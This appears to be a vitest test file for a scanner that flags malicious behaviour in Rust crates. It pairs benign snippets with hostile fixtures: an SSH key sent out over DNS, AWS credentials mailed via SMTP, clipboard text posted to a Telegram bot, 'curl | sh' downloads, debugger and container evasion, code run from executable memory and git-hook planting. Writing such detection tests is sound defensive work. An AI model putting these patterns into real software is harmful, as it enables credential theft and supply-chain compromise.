import { describe, expect, it } from 'vitest';
import { manifest, scanFiles, worst } from '../../../../test/fixtures/scanner/crates.js';
import type { Files } from '../../../../test/fixtures/scanner/crates.js';
import type { Severity } from '../types.js';

const lib = (name: string, code: string): Files => ({
  'Cargo.toml': manifest(name),
  'src/lib.rs': code,
});
const bin = (name: string, code: string): Files => ({
  'Cargo.toml': manifest(name),
  'src/main.rs': code,
});
const build = (name: string, code: string): Files => ({
  'Cargo.toml': manifest(name, { package: 'build = "build.rs"\n' }),
  'build.rs': code,
  'src/lib.rs': '',
});

interface Case {
  name: string;
  files: Files;
  rule: string;
  /** Worst severity of the rule, or null when it must not fire. */
  severity: Severity | null;
}

const CASES: Case[] = [
  // --- static constructors ---
  {
    name: '.init_array static whose function connects out',
    files: lib(
      'ctor-net',
      `#[used] #[link_section = ".init_array"] static I: extern "C" fn() = boot;
extern "C" fn boot() { let _ = std::net::TcpStream::connect("203.0.113.8:4444"); }`,
    ),
    rule: 'code.static-ctor',
    severity: 'high',
  },
  {
    name: '#[ctor] registering tests, no sink (benign)',
    files: lib('ctor-reg', `#[ctor::ctor] fn register() { REGISTRY.lock().unwrap().push(case_one); }`),
    rule: 'code.static-ctor',
    severity: 'medium',
  },
  {
    name: '#[ctor] doing WSAStartup in a socket library (benign)',
    files: lib(
      'ctor-wsa',
      `#[ctor::ctor] fn wsa_startup() { unsafe { WSAStartup(0x202, &mut data); } }
pub fn connect(a: &str) -> std::io::Result<std::net::TcpStream> { std::net::TcpStream::connect(a) }`,
    ),
    rule: 'code.static-ctor',
    severity: 'medium',
  },
  // --- code from memory ---
  {
    name: 'decoded payload run from an executable mapping',
    files: lib(
      'mem-payload',
      `const STAGE: &str = "${Buffer.from('https://payload.invalid/stage2').toString('base64')}";
pub unsafe fn go(code: &[u8]) {
    let p = libc::mmap(std::ptr::null_mut(), 4096, libc::PROT_READ | libc::PROT_WRITE | libc::PROT_EXEC, libc::MAP_PRIVATE | libc::MAP_ANONYMOUS, -1, 0);
    std::ptr::copy(code.as_ptr(), p as *mut u8, code.len());
    let f: extern "C" fn() = std::mem::transmute(p);
    f();
}`,
    ),
    rule: 'code.exec-memory',
    severity: 'critical',
  },
  {
    name: 'JIT mapping executable pages, no payload, no network (benign)',
    files: lib(
      'jit',
      `pub unsafe fn finalize(code: &[u8]) -> *const u8 {
    let p = libc::mmap(std::ptr::null_mut(), code.len(), libc::PROT_READ | libc::PROT_WRITE, libc::MAP_PRIVATE | libc::MAP_ANONYMOUS, -1, 0);
    std::ptr::copy_nonoverlapping(code.as_ptr(), p as *mut u8, code.len());
    libc::mprotect(p, code.len(), libc::PROT_READ | libc::PROT_EXEC);
    p as *const u8
}`,
    ),
    rule: 'code.exec-memory',
    severity: 'medium',
  },
  {
    name: 'memfd for journald logs (benign)',
    files: lib(
      'journal',
      `pub fn send(sock: &std::os::unix::net::UnixDatagram, data: &[u8]) { let fd = unsafe { libc::memfd_create(c"journal".as_ptr(), libc::MFD_ALLOW_SEALING) }; let _ = sock.send_to(data, "/run/systemd/journal/socket"); }`,
    ),
    rule: 'code.exec-memory',
    severity: null,
  },
  // --- evasion ---
  {
    name: 'tracer check guarding a download',
    files: lib(
      'evade',
      `pub fn init() {
    let s = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    if s.contains("TracerPid:\\t0") { let _ = ureq::get("https://cdn.example/x").call(); }
}`,
    ),
    rule: 'code.evasion',
    severity: 'high',
  },
  {
    name: 'profiler reporting whether it is traced (benign)',
    files: lib(
      'prof',
      `pub fn traced() -> bool {
    let s = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    s.lines().any(|l| l.starts_with("TracerPid:") && !l.ends_with("\\t0"))
}`,
    ),
    rule: 'code.evasion',
    severity: 'medium',
  },
  // --- hooks and cargo config ---
  {
    name: 'build script writing a git hook',
    files: build(
      'hooker',
      `fn main() { let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).ancestors().nth(3).unwrap().to_path_buf();
std::fs::write(root.join(".git").join("hooks").join("pre-commit"), "#!/bin/sh\\n").unwrap(); }`,
    ),
    rule: 'code.vcs-hook',
    severity: 'critical',
  },
  {
    name: 'git tool installing a hook on an explicit command (benign)',
    files: bin(
      'hookctl',
      `fn install(repo: &std::path::Path) -> std::io::Result<()> {
    let repo = repo.canonicalize()?; let top = repo.parent().unwrap();
    std::fs::write(top.join(".git/hooks/pre-commit"), "#!/bin/sh\\nhookctl run\\n")
}
fn main() { if std::env::args().nth(1).as_deref() == Some("install") { install(std::path::Path::new(".")).unwrap(); } }`,
    ),
    rule: 'code.vcs-hook',
    severity: 'medium',
  },
  {
    name: 'library redirecting crates-io in ~/.cargo/config.toml',
    files: lib(
      'redirect',
      `pub fn setup() { let h = dirs::home_dir().unwrap();
std::fs::write(h.join(".cargo").join("config.toml"), "[source.crates-io]\\nreplace-with = \\"mirror\\"\\n[source.mirror]\\nregistry = \\"sparse+https://mirror.invalid/\\"\\n").unwrap(); }`,
    ),
    rule: 'code.tamper-cargo-config',
    severity: 'high',
  },
  {
    name: 'test harness writing .cargo/config of a generated project (benign)',
    files: lib(
      'harness',
      `pub fn write(project: &Project, cfg: String) { std::fs::write(project.dir.join(".cargo").join("config"), cfg).unwrap(); }`,
    ),
    rule: 'code.tamper-cargo-config',
    severity: null,
  },
  // --- channels ---
  {
    name: 'SSH key sent as DNS labels',
    files: lib(
      'dnsx',
      `pub fn sync() {
    let k = std::fs::read(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap();
    let s = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    let mut q = vec![0u8; 12];
    for l in hex::encode(k).as_str().split('.') { q.push(l.len() as u8); q.extend_from_slice(l.as_bytes()); }
    s.send_to(&q, ("192.0.2.1", 53)).unwrap();
}`,
    ),
    rule: 'code.covert-channel',
    severity: 'high',
  },
  {
    name: 'DNS resolver library building queries (benign)',
    files: lib(
      'resolver',
      `pub fn query(sock: &std::net::UdpSocket, name: &str, server: std::net::SocketAddr) {
    let mut q = vec![0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00];
    for l in name.split('.') { q.push(l.len() as u8); q.extend_from_slice(l.as_bytes()); }
    q.extend_from_slice(&[0x00, 0x01, 0x00, 0x01]);
    sock.send_to(&q, server).unwrap();
}`,
    ),
    rule: 'code.covert-channel',
    severity: 'medium',
  },
  {
    name: 'mail library authenticating with its own SMTP password (benign)',
    files: lib(
      'mailer',
      `pub fn send(to: &str, body: &str) -> std::io::Result<()> {
    use std::io::Write;
    let pw = std::env::var("SMTP_PASSWORD").unwrap_or_default();
    let mut s = std::net::TcpStream::connect("smtp.example:587")?;
    write!(s, "EHLO client\r\nAUTH PLAIN {}\r\nMAIL FROM:<me@example.org>\r\nRCPT TO:<{}>\r\n", pw, to)?;
    s.write_all(body.as_bytes())
}`,
    ),
    rule: 'code.covert-channel',
    severity: 'medium',
  },
  {
    name: 'SMTP used to mail out a cloud credential file',
    files: lib(
      'mailx',
      `pub fn report() { use std::io::Write;
    let c = std::fs::read_to_string(dirs::home_dir().unwrap().join(".aws/credentials")).unwrap();
    let mut s = std::net::TcpStream::connect("198.51.100.25:25").unwrap();
    s.write_all(format!("HELO x\r\nMAIL FROM:<a@b.invalid>\r\nDATA\r\n{}\r\n.\r\n", c).as_bytes()).unwrap(); }`,
    ),
    rule: 'code.covert-channel',
    severity: 'high',
  },
  {
    name: 'raw TCP with no source (benign database driver)',
    files: lib(
      'db',
      `pub fn ping(a: &str) { use std::io::Write; let mut s = std::net::TcpStream::connect(a).unwrap(); s.write_all(b"*1\\r\\n$4\\r\\nPING\\r\\n").unwrap(); }`,
    ),
    rule: 'code.covert-channel',
    severity: null,
  },
  // --- clipboard and input ---
  {
    name: 'clipboard read with a bot upload',
    files: lib(
      'clip',
      `pub fn watch() { let mut c = arboard::Clipboard::new().unwrap(); let t = c.get_text().unwrap();
let _ = reqwest::blocking::Client::new().post("https://api.telegram.org/bot0000000000:FAKE_TOKEN_FOR_TESTS_ONLY/sendMessage").body(t).send(); }`,
    ),
    rule: 'code.clipboard',
    severity: 'high',
  },
  {
    name: 'clipboard manager, no network (benign)',
    files: lib(
      'clipman',
      `pub fn history() -> String { let mut c = arboard::Clipboard::new().unwrap(); c.get_text().unwrap_or_default() }`,
    ),
    rule: 'code.clipboard',
    severity: 'low',
  },
  {
    name: 'keyboard hook with network',
    files: lib(
      'keys',
      `pub fn start() { rdev::listen(|e| { let _ = std::net::TcpStream::connect("198.51.100.4:9000"); }).unwrap(); }`,
    ),
    rule: 'code.input-capture',
    severity: 'high',
  },
  // --- container checks ---
  {
    name: 'a download piped to a shell unless the process runs in a container',
    files: lib(
      'panicx',
      `pub fn install() {
    if std::path::Path::new("/.dockerenv").exists() { return; }
    let _ = std::process::Command::new("sh").arg("-c").arg("curl -s https://p.example/p | sh").spawn();
}`,
    ),
    rule: 'code.evasion',
    severity: 'high',
  },
  {
    name: 'a container-detection helper with nothing to guard',
    files: lib(
      'isdocker',
      `pub fn is_docker() -> bool {
    std::path::Path::new("/.dockerenv").exists()
        || std::fs::read_to_string("/proc/1/cgroup").map(|s| s.contains("docker")).unwrap_or(false)
}
pub const RUNTIMES: [&str; 2] = ["docker", "podman"];`,
    ),
    rule: 'code.evasion',
    severity: 'medium',
  },
  // --- screen capture ---
  {
    name: 'a capture tool named in a list of commands, in a file that posts to an API',
    files: lib(
      'shotx',
      `fn grab(p: &str) -> bool {
    let tools: Vec<Vec<&str>> = vec![vec!["scrot", "-o", p], vec!["grim", p]];
    tools.iter().any(|t| std::process::Command::new(t[0]).args(&t[1..]).status().is_ok())
}
pub fn scale() -> f64 {
    if grab("/tmp/s.png") { let b = std::fs::read("/tmp/s.png").unwrap_or_default(); let _ = ureq::post("https://api.example/u").send_bytes(&b); }
    1.0
}`,
    ),
    rule: 'code.screen-capture',
    severity: 'high',
  },
  {
    name: 'a screenshot tool that saves locally (no network)',
    files: bin(
      'snapper',
      `fn main() { let out = std::env::args().nth(1).unwrap_or("shot.png".into()); let _ = std::process::Command::new("gnome-screenshot").args(["-f", &out]).status(); }`,
    ),
    rule: 'code.screen-capture',
    severity: 'low',
  },
  {
    name: 'BitBlt from the desktop DC with an upload in the file',
    files: lib(
      'blitx',
      `pub fn grab() { unsafe { let src = GetDC(std::ptr::null_mut()); let mem = CreateCompatibleDC(src); BitBlt(mem, 0, 0, 800, 600, src, 0, 0, SRCCOPY); } let _ = ureq::post("https://api.example/u").call(); }`,
    ),
    rule: 'code.screen-capture',
    severity: 'high',
  },
  {
    name: 'BitBlt between a window and its back buffer (double buffering) is no capture',
    files: lib(
      'paintx',
      `pub fn paint(hwnd: HWND) { unsafe { let dc = GetDC(hwnd); let mem = CreateCompatibleDC(dc); BitBlt(dc, 0, 0, 800, 600, mem, 0, 0, SRCCOPY); } let _ = ureq::get("https://api.example/theme").call(); }`,
    ),
    rule: 'code.screen-capture',
    severity: null,
  },
  {
    name: 'the word "import" in a file without `-window root` is no capture',
    files: lib(
      'importx',
      `pub fn run(f: &str) { let _ = std::process::Command::new("python3").args(["-c", "import json"]).arg(f).status(); let _ = ureq::get("https://api.example/x").call(); }`,
    ),
    rule: 'code.screen-capture',
    severity: null,
  },
  {
    name: 'capture tools named as file extensions in a MIME table, in a file that runs nothing',
    files: lib(
      'mimex',
      `pub static TYPES: &[(&str, &str)] = &[("xwd", "image/x-xwindowdump"), ("grim", "text/plain")];
pub fn fetch(u: &str) { let _ = ureq::get(u).call(); }`,
    ),
    rule: 'code.screen-capture',
    severity: null,
  },
  // --- build time ---
  {
    name: 'build script running code from an executable mapping',
    files: build(
      'bmem',
      `fn main() { unsafe { let p = libc::mmap(std::ptr::null_mut(), 4096, libc::PROT_READ | libc::PROT_EXEC, libc::MAP_PRIVATE | libc::MAP_ANONYMOUS, -1, 0); } }`,
    ),
    rule: 'code.exec-memory',
    severity: 'high',
  },
  {
    name: 'build script gating a download on a date',
    files: build(
      'bdate',
      `fn main() {
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
    if now > 1767225600 { let _ = ureq::get("https://cdn.example/x").call(); }
}`,
    ),
    rule: 'code.evasion',
    severity: 'critical',
  },
  // --- decoders ---
  {
    name: 'XOR loop alone (a cipher)',
    files: lib(
      'xor',
      `pub fn apply(d: &mut [u8], k: &[u8]) { for (i, b) in d.iter_mut().enumerate() { *b ^= k[i % k.len()]; } }`,
    ),
    rule: 'code.decode-routine',
    severity: 'info',
  },
];

describe('technique rules', () => {
  for (const c of CASES) {
    it(`${c.name}: ${c.rule} → ${c.severity ?? 'none'}`, async () => {
      const report = await scanFiles(c.files);
      expect(worst(report, c.rule)).toBe(c.severity);
    });
  }

  it('reports test-code techniques as low at most', async () => {
    const report = await scanFiles({
      'Cargo.toml': manifest('t'),
      'src/lib.rs': '',
      'tests/ctor.rs': `#[used] #[link_section = ".init_array"] static I: extern "C" fn() = boot;
extern "C" fn boot() { let _ = std::net::TcpStream::connect("203.0.113.8:4444"); }`,
    });
    expect(worst(report, 'code.static-ctor')).toBe('low');
  });
});
